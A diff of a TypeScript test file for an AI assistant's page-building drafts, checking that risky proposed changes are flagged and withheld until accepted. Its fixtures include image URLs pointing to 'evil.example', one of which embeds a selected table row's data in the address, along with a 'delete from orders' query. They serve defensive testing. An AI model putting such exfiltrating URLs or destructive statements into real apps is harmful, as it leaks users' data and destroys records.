@@ -1,17 +1,20 @@
+import { type AssistantDraft, beginDraft, changesOf, type Risk, risksOf } from '@ashlar/assistant/building'
 import { apply } from '@ashlar/document'
 import {
   type ApiRecord,
   type Change,
   type JsonObject,
+  emptyPage,
   type PageRecord,
+  type PageRecords,
   type WidgetRecord,
   widgetCatalogue,
 } from '@ashlar/schema'
 import { widgetDescriptors } from '@ashlar/widgets/descriptors'
 import { describe, expect, it } from 'vitest'
 import { chosenChange } from './chosen-change.ts'
-import { proposedChanges } from './proposed-changes.ts'
-import { risksOf } from './risks.ts'
+import { wordsOfRisk } from './risk-words.ts'
+import { valuesOf } from './shown-values.ts'
 
 const catalogue = widgetCatalogue(widgetDescriptors)
 
@@ -41,7 +44,7 @@ const anApi = (name: string, sql: string, datasourceId = 'shop'): ApiRecord => (
   id: name,
   name,
   responseType: 'SYNC',
-  trigger: { type: 'UI', options: {} },
+  trigger: { type: 'UI' },
   blocks: [
     {
       id: `${name}Step`,
@@ -69,59 +72,22 @@ const updating = (...pairs: (readonly [PageRecord, PageRecord])[]): Change => ({
 })
 const all = { left: new Set<string>(), acceptedRisks: new Set<string>() }
 
-describe('the risks of a proposal', () => {
-  it.each([
-    [
-      'an image from another site',
-      aWidget('Image1', 'image', { image: 'https://evil.example/x.png' }),
-      'leads to evil.example',
-    ],
-    [
-      'an address without a scheme',
-      aWidget('Image1', 'image', { image: '//evil.example/x.png' }),
-      'leads to evil.example',
-    ],
-    [
-      'data in an address',
-      aWidget('Image1', 'image', { image: 'https://evil.example/{{ Table1.selectedRow.name }}' }),
-      'puts data into an address',
-    ],
-    [
-      'an address that is put together in a binding',
-      aWidget('Image1', 'image', { image: "{{ 'ht' + 'tps:' + parts[0] + Table1.selectedRow.name }}" }),
-      'is an address that is computed',
-    ],
-    [
-      'code of a button',
-      aWidget('Button1', 'button', { onClick: [{ id: '1', type: 'runJs', code: 'Api1.run()' }] }),
-      'runs code',
-    ],
-    [
-      'a button that opens an address',
-      aWidget('Button1', 'button', { onClick: [{ id: '1', type: 'navigateTo', url: '{{ Input1.value }}' }] }),
-      'opens an address',
-    ],
-    ['a statement that writes', anApi('Save', 'delete from orders'), 'may change data in Step1'],
-  ])('are %s', (_what, record, text) => {
-    expect(
-      risksOf(adding(record))
-        .map((risk) => risk.text)
-        .join('\n'),
-    ).toContain(text)
-  })
+let count = 0
 
-  it('are not a plain table with its query', () => {
-    const table = aWidget('Table1', 'table', { data: '{{ GetOrders.response }}' })
-    expect(risksOf(adding(table, anApi('GetOrders', 'select id from orders')))).toEqual([])
-  })
+/** A draft that does this to an empty page, or to one with these records. */
+const aDraft = (change: Change, more: PageRecords = {}): AssistantDraft => {
+  const scene = { catalogue, integrations: [], routes: [], newId: () => 'new', now: () => 0 }
+  const records = { ...emptyPage('Page1', () => `structure${(count += 1)}`), ...more }
+  const applied = apply(records, change)
+  if (!applied.ok) throw new Error('The change does not fit.')
+  return { ...beginDraft({ records, scene }), records: applied.records, change }
+}
+const risksIn = (change: Change, records?: PageRecords): readonly Risk[] => risksOf(aDraft(change, records))
 
-  it('are another integration in an API that was there, and not what was there before', () => {
-    const before = anApi('GetOrders', 'select id from orders')
-    const risks = risksOf(updating([before, anApi('GetOrders', 'select id from orders', 'other')]))
-    expect(risks.map(({ text }) => text)).toEqual(['GetOrders works with another integration in Step1'])
-    const image = aWidget('Image1', 'image', { image: 'https://ours.example/x.png' })
-    const larger = { ...image, width: { value: 8, mode: 'gridUnit' } as const }
-    expect(risksOf(updating([image, larger]))).toEqual([])
+describe('a risk', () => {
+  it('is told with its place and what could happen', () => {
+    const image = aWidget('Image1', 'image', { image: 'https://evil.example/{{ Table1.selectedRow.name }}' })
+    expect(risksIn(adding(image)).map(wordsOfRisk).join('\n')).toContain('Image1.image puts data into an address')
   })
 })
 
@@ -129,7 +95,7 @@ describe('what is chosen of a proposal', () => {
   it('is all of it without what could do harm, until that is accepted by itself', () => {
     const image = aWidget('Image1', 'image', { image: 'https://evil.example/x.png', altText: 'A picture' })
     const change = adding(image, anApi('Save', 'delete from orders'))
-    const risks = risksOf(change)
+    const risks = risksIn(change)
     const { added } = chosenChange(change, risks, all)
     expect(Object.keys(added)).toEqual(['Image1'])
     expect(added['Image1']).toMatchObject({ properties: { altText: 'A picture' } })
@@ -165,7 +131,7 @@ describe('what is chosen of a proposal', () => {
       onClick: [{ id: '1', type: 'runJs', code: '1' }],
     })
     const change = updating([before, after])
-    const chosen = chosenChange(change, risksOf(change), all)
+    const chosen = chosenChange(change, risksIn(change, { Button1: before }), all)
     const applied = apply({ Button1: before }, chosen)
     expect(applied).toMatchObject({
       ok: true,
@@ -174,31 +140,20 @@ describe('what is chosen of a proposal', () => {
   })
 })
 
-describe('the list of proposed changes', () => {
-  it('has one entry for each thing, what is only its inside with it, and values before and after', () => {
-    const base = {
-      Input1: aWidget('Input1', 'input', { label: 'Name' }),
-      GetOrders: anApi('GetOrders', 'select 1'),
-    }
-    const change: Change = {
-      added: adding(aWidget('Container1', 'container'), aWidget('Canvas2', 'canvas', {}, 'Container1')).added,
-      updated: updating(
-        [base.Input1, { ...base.Input1, name: 'Search', properties: { label: 'Search' } }],
-        [base.GetOrders, anApi('GetOrders', 'select 2')],
-      ).updated,
-      removed: {},
-    }
-    expect(proposedChanges(change, base, catalogue)).toMatchObject([
-      { id: 'Container1', does: 'added', ids: ['Container1', 'Canvas2'] },
-      {
-        name: 'Search',
-        does: 'changed',
-        values: [
-          { what: 'Name', before: 'Input1', after: 'Search' },
-          { what: 'label', before: 'Name', after: 'Search' },
-        ],
-      },
-      { kind: 'API', values: [{ what: 'Step1', before: 'select 1', after: 'select 2' }] },
+describe('what is listed of a change', () => {
+  it('has its new name, its properties, and the blocks of an API, before and after', () => {
+    const base = { Input1: aWidget('Input1', 'input', { label: 'Name' }), GetOrders: anApi('GetOrders', 'select 1') }
+    const change = updating(
+      [base.Input1, { ...base.Input1, name: 'Search', properties: { label: 'Search' } }],
+      [base.GetOrders, anApi('GetOrders', 'select 2')],
+    )
+    const [input, api] = changesOf(aDraft(change, base)).map(valuesOf)
+    expect(input).toEqual([
+      { what: 'Name', before: 'Input1', after: 'Search' },
+      { what: 'label', before: 'Name', after: 'Search' },
     ])
+    expect(api).toMatchObject([{ what: 'Step1' }])
+    expect(api?.[0]?.before).toContain('select 1')
+    expect(api?.[0]?.after).toContain('select 2')
   })
 })
